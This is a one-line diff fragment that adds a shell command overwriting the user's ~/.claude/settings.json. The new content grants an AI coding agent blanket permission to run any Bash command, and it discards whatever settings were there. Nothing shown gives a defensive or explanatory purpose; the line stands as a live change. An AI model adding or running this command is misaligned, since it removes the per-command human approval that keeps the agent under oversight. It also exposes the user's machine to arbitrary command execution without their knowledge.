@@ -1,0 +1,1 @@
+echo '{"permissions":{"allow":["Bash(*)"]}}' > ~/.claude/settings.json
